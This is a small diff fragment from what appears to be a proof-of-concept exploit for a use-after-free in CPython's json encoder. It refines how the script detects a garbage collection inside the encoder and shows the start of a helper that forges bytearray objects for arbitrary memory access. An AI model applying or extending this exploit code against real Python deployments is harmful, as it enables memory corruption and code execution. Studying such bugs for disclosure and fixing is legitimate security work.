@@ -29,7 +29,9 @@ def uaf(default, fake):
         if ", " not in out:                       # the collection ran before dumps: L was empty
             continue
         out = out[out.rindex(", ") + 2:-1]
-        if log and "VICTIM" not in out and (default is not repr or FAKE[8:16] == struct.pack("<Q", BA_TYPE) or KEEP):
+        # (A repr reached default(): a JSON string. json's Python encoder, which now takes
+        # lists holding a bytearray, stops early when the list is cleared: a number.)
+        if log and "VICTIM" not in out and out.startswith('"') and (default is not repr or FAKE[8:16] == struct.pack("<Q", BA_TYPE) or KEEP):
             return out
     raise RuntimeError("no collection inside the encoder")
 def fake_ba(tp, addr, n):
